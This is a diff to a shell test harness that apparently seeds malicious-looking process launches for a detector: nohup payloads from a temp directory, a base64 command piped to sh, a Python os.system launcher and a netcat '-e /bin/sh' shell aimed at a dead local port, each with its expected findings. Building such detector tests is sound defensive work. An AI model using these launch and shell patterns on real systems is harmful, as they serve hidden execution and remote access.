@@ -99,6 +99,9 @@ if [[ ${1-} == --scenario-runner ]]; then
     begin 04e  # the same nohup, base64-encoded and piped to a shell
     sh -c "echo $(printf 'nohup %s >/dev/null 2>&1 &' "$WD/x4e.sh" | base64 -w0) | base64 -d | sh"
 
+    begin 04p  # the same nohup, run by Python's os.system (a shell between)
+    python3 -c "import os; os.system('nohup $WD/x4p.sh >/dev/null 2>&1 &')"
+
     begin 05a  # >8 KB argument: kernel splits it into a2_len / a2[0..n]
     nohup "$WD/x5.sh" "$PAD"
 
@@ -603,6 +606,7 @@ write_tsv() {
             03 signal "seed test 3: python3 -c 'import signal,time; signal.signal(signal.SIGHUP, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(1)'" - - \
             04 malicious "sh -c \"nohup $WD/x4.sh >/dev/null 2>&1 &\" (hex-encoded sh -c string; exactly one finding)" "$WD/x4.sh" temp_dir_payload,background_exec \
             04e malicious "sh -c \"echo <base64 of nohup $WD/x4e.sh >/dev/null 2>&1 &> | base64 -d | sh\" (exactly one finding)" "$WD/x4e.sh" temp_dir_payload,encoded_payload \
+            04p malicious "python3 -c \"import os; os.system('nohup $WD/x4p.sh >/dev/null 2>&1 &')\" (exactly one finding)" "$WD/x4p.sh" temp_dir_payload,background_exec \
             05a malicious "nohup $WD/x5.sh <9000 x A> (argument split by the kernel: a2_len, a2[0..])" "$WD/x5.sh" temp_dir_payload \
             05b malicious "sh -c \": <9000 x A>; nohup $WD/netcat -e /bin/sh 127.0.0.1 $DEAD_PORT &\" (split hex sh -c string; netcat = copy of nc, fails at once)" "$WD/netcat" temp_dir_payload,suspicious_net_tool,background_exec \
             06 malicious "busybox nohup $WD/x6.sh$bb_note" "$WD/x6.sh" temp_dir_payload \
